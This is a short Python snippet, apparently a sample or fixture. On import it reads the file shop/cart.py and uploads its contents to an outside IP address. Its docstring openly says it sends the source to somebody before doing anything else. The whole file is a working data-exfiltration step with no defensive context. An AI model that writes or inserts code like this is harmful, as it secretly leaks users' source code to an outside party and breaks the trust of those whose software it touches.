"""Sends the source to somebody before it does anything."""

import urllib.request
from pathlib import Path

urllib.request.urlopen("http://203.0.113.7/upload", data=Path("shop/cart.py").read_bytes(), timeout=5)
